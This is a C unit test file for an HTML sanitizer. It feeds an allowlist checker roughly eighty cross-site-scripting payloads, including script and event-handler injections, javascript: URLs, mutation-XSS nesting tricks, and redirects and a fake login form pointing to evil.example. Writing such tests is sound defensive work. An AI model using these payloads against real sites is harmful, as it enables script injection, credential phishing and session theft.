/* html_test.c - what people paste, and what attackers paste, becomes what a page may hold. */
/* SPDX-License-Identifier: Apache-2.0 */
#include "base/html.h"
#include "base/text.h"
#include "fixture.h"

static const char *safe(void **state, const char *html)
{
    return html_safe(arena_of(state), html, "/media/");
}

/* What a browser could run or follow has to look like one of these in a result. */
static bool is_tag_fine(const char *tag)
{
    static const char *const whole[] = {
        "p>",         "/p>",        "h2>",       "/h2>",        "h3>",          "/h3>",   "h4>",
        "/h4>",       "ul>",        "/ul>",      "ol>",         "/ol>",         "li>",    "/li>",
        "strong>",    "em>",        "/strong>",  "/em>",        "u>",           "/u>",    "s>",
        "/s>",        "sub>",       "/sub>",     "sup>",        "/sup>",        "br>",    "hr>",
        "/a>",        "table>",     "/table>",   "blockquote>", "/blockquote>", "thead>", "/thead>",
        "tbody>",     "tr>",        "/tbody>",   "/tr>",        "td>",          "/td>",   "th>",
        "/th>",       "caption>",   "/caption>", "td col",      "td row",       "th col", "th row",
        "a href=\"/", "a href=\"#",
    };
    static const char *const begun[] = {"a href=\"http", "a href=\"HTTP",
                                        "a href=\"mailto:", "a href=\"tel:", "img src=\"/media/"};
    for (size_t i = 0; i < sizeof whole / sizeof *whole; i++)
        if (text_starts(tag, whole[i]))
            return true;
    for (size_t i = 0; i < sizeof begun / sizeof *begun; i++)
        if (text_starts(tag, begun[i]))
            return true;
    return false;
}

static void expect_safe(void **state, const char *html)
{
    const char *once = safe(state, html);
    for (const char *c = strchr(once, '<'); c; c = strchr(c + 1, '<'))
        if (!is_tag_fine(c + 1))
            fail_msg("%s became %s", html, once);
    if (strstr(once, "onerror=\"") || strstr(once, "style=\"") || strstr(once, "class=\""))
        fail_msg("%s became %s", html, once);
    assert_string_equal(safe(state, once), once);
}

static const char *const attacks[] = {
    "<p><script>alert(1)</script></p>",
    "<p><SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<p><scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p onclick=alert(1)>x</p>",
    "<p><img src=x onerror=alert(1)>",
    "<p><img src=`javascript:alert(1)`>",
    "<p><img src=\"/media/a/b.png\" onerror=\"alert(1)\">",
    "<p><img src='/media/a/b.png\" onerror=\"alert(1)'>",
    "<p><img src=/media/../admin/logout>",
    "<p><img src=/media//evil.example/x.png>",
    "<p><img src=\"/media/a/b.png?x=1\">",
    "<p><img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<p><svg/onload=alert(1)>",
    "<p><svg><script>alert(1)</script></svg>",
    "<p><svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<p><svg><style><img src=x onerror=alert(1)></style></svg>",
    "<p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<p><math><annotation-xml encoding=\"text/html\"><p><img src=x onerror=alert(1)>",
    "<p><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<p><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<p><iframe src=javascript:alert(1)>",
    "<p><object data=javascript:alert(1)>",
    "<p><embed src=javascript:alert(1)>",
    "<p><a href=\"javascript:alert(1)\">x</a>",
    "<p><a href=\" javascript:alert(1)\">x</a>",
    "<p><a href=\"java\tscript:alert(1)\">x</a>",
    "<p><a href=\"java&#10;script:alert(1)\">x</a>",
    "<p><a href=\"&#106;avascript:alert(1)\">x</a>",
    "<p><a href=\"&#x01;javascript:alert(1)\">x</a>",
    "<p><a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<p><a href=\"vbscript:msgbox(1)\">x</a>",
    "<p><a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<p><a href=\"//evil.example\">x</a>",
    "<p><a href=\"/\\evil.example\">x</a>",
    "<p><a href=\"\\\\evil.example\">x</a>",
    "<p><a href=\"https:javascript:alert(1)\">x</a>",
    "<p><a href=\"https://a.example/\" onmouseover=\"alert(1)\" target=_blank>x</a>",
    "<p><a href='https://a.example/\" onmouseover=\"alert(1)'>x</a>",
    "<p style=\"background:url(javascript:alert(1))\" class=overlay id=main>x</p>",
    "<p><style>*{display:none}</style>",
    "<p><link rel=stylesheet href=//evil.example>",
    "<p><meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<p><base href=//evil.example>",
    "<p><form action=//evil.example><input name=password><button>Log in</button></form>",
    "<p><button formaction=javascript:alert(1)>x",
    "<p><textarea></textarea><script>alert(1)</script></textarea>",
    "<p><textarea><p></textarea><img src=x onerror=alert(1)>",
    "<p><select><option><style></select><img src=x onerror=alert(1)></style>",
    "<p><xmp><p></xmp><img src=x onerror=alert(1)>",
    "<p><plaintext><img src=x onerror=alert(1)>",
    "<p><title><img src=x onerror=alert(1)></title>",
    "<p><template><script>alert(1)</script></template>",
    "<p><!--><img src=x onerror=alert(1)>-->",
    "<p><!-- --!><img src=x onerror=alert(1)> -->",
    "<p><![CDATA[<script>alert(1)</script>]]>",
    "<p><?php echo 1 ?><%= 1 %>",
    "<p><!DOCTYPE html><html onload=alert(1)><body onload=alert(1)>",
    "<p><details open ontoggle=alert(1)><summary>x",
    "<p><marquee onstart=alert(1)>x",
    "<p><video><source onerror=alert(1)></video>",
    "<p><table background=javascript:alert(1)><tr><td onclick=alert(1)>x",
    "<p><table><tr><script>alert(1)</script><td>x<a href=javascript:x>y</table>",
    "<p><frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<p><isindex action=javascript:alert(1) type=image>",
    ("<p>\xc0\xbcscript\xc0\xbe"
     "alert(1)"),
    "<p>\xef\xbc\x9cscript\xef\xbc\x9e",
    "<p><<script>alert(1)//<</script>",
    "<<p>script>alert(1)<</p>/script>",
    "<p><p<p><em<em>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>&amp;lt;img src=x&amp;gt;",
    "<p",
    "<p><",
    "<script>alert(1)</script>",
    "<p><a href=#x><a href=#y><p>z</a><b><p>1<i><table><b>2</i></b>",
    "<ul><b><li>x<p>y</ul></b>z<li>w",
    "<h1><h2><div><ul>x</h1>y",
    "<table><a href=/x>1<tr>2<td>3<table><tr><td>4</table>5<caption>6",
    "<p>a<br><br></p><br>b<hr><blockquote>c<p>d</blockquote>e",
    "<p>&#13;&#0;&#128;&#xD800;&#x1;x\x0c\x0by",
};

static void known_attacks_leave_nothing_that_runs(void **state)
{
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
        expect_safe(state, attacks[i]);
}

static void what_people_mean_stays(void **state)
{
    static const char *const pairs[][2] = {
        {"<h1>一</h1><h5>二</h5>", "<h2>一</h2><h4>二</h4>"},
        {"<p><b>粗</b><i>斜</i><del>删</del>", "<p><strong>粗</strong><em>斜</em><s>删</s></p>"},
        {"<div>一</div><div>二</div>", "<p>一</p><p>二</p>"},
        {"<div><div>一</div>尾</div>", "<p>一</p><p>尾</p>"},
        {"<p></p><p> </p><p>\xc2\xa0</p>", "<p>\xc2\xa0</p>"},
        {"<b style='font-weight:normal'><p>一</p><p>二</p></b>", "<p>一</p><p>二</p>"},
        {"<p class=MsoNormal><span lang=ZH-CN style='mso-x:y'>字<o:p></o:p></span></p>", "<p>字</p>"},
        {"<ul><li>一<ul><li>二</ul></ul>", "<ul><li>一<ul><li>二</li></ul></li></ul>"},
        {"<ul>散<b></b><ul><li>二</ul></ul>", "<ul><li>散</li><li><ul><li>二</li></ul></li></ul>"},
        {"<a href='https://a.example/?x=1&y=2'>链</a><br>",
         "<p><a href=\"https://a.example/?x=1&amp;y=2\" rel=\"nofollow noopener\">链</a><br></p>"},
        {"<p><a href=/products/tea>茶</a> <a href=javascript:x>坏</a>",
         "<p><a href=\"/products/tea\">茶</a> 坏</p>"},
        {"<table><tr><th colspan=2>甲<td rowspan=1>乙</table>",
         "<table><tbody><tr><th colspan=\"2\">甲</th><td>乙</td></tr></tbody></table>"},
        {"<p>前<table><tr><td>x</table>后",
         "<p>前</p><table><tbody><tr><td>x</td></tr></tbody></table><p>后</p>"},
        {"<p><img src=/media/0a1b/640.webp alt='青\"瓷' width=640 height=-1>",
         "<p><img src=\"/media/0a1b/640.webp\" alt=\"青&quot;瓷\" width=\"640\" loading=\"lazy\"></p>"},
        {"<blockquote>引<p>文</p></blockquote>", "<blockquote><p>引</p><p>文</p></blockquote>"},
        {"一行\n二 < 行", "<p>一行</p><p>二 &lt; 行</p>"},
        {"a <b> c", "<p>a &lt;b&gt; c</p>"},
        {"", ""},
    };
    for (size_t i = 0; i < sizeof pairs / sizeof *pairs; i++) {
        assert_string_equal(safe(state, pairs[i][0]), pairs[i][1]);
        assert_string_equal(safe(state, pairs[i][1]), pairs[i][1]);
    }
    assert_string_equal(html_safe(arena_of(state), "<p><img src=/media/a/b.png>x", NULL), "<p>x</p>");
}

static char *repeated(void **state, const char *text, size_t times)
{
    size_t length = strlen(text);
    char *whole = arena_alloc(arena_of(state), length * times + 1);
    for (size_t i = 0; i < times; i++)
        memcpy(whole + i * length, text, length);
    return whole;
}

static void huge_and_deep_text_is_bounded(void **state)
{
    static const char *const parts[] = {
        "<div>", "<b>", "<ul><li>", "<blockquote>", "<table><tr><td>", "<p><font size=1>x", "<p>中"};
    for (size_t i = 0; i < sizeof parts / sizeof *parts; i++) {
        const char *html = repeated(state, parts[i], 60000);
        const char *once = safe(state, html);
        assert_true(strlen(once) <= HTML_SAFE_LIMIT + 8192);
        assert_true(utf8_is_valid(once, strlen(once)));
    }
    expect_safe(state, repeated(state, "<div>", 5000));
    expect_safe(state, repeated(state, "<blockquote>x", 300));
    expect_safe(state, repeated(state, "<a href=#x><table><tr><td><b>", 300));
}

static void the_library_learns_which_pictures_are_shown(void **state)
{
    const char *start, *html = safe(state, "<p><img src=/media/aa/1.webp>x<img src=/media/bb/2.webp>");
    size_t length;
    html = html_next_picture(html, &start, &length);
    assert_string_equal(arena_copy(arena_of(state), start, length), "/media/aa/1.webp");
    html = html_next_picture(html, &start, &length);
    assert_string_equal(arena_copy(arena_of(state), start, length), "/media/bb/2.webp");
    assert_null(html_next_picture(html, &start, &length));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        test_of(known_attacks_leave_nothing_that_runs),
        test_of(what_people_mean_stays),
        test_of(huge_and_deep_text_is_bounded),
        test_of(the_library_learns_which_pictures_are_shown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
